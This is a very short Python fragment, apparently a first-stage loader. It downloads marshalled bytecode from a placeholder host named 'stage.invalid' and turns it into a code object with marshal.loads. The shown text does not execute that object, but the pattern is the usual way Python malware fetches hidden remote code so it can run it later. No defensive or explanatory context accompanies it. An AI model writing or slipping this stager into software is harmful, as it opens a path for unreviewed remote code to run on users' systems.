import marshal
import urllib.request

CODE = marshal.loads(urllib.request.urlopen("http://stage.invalid/m").read())
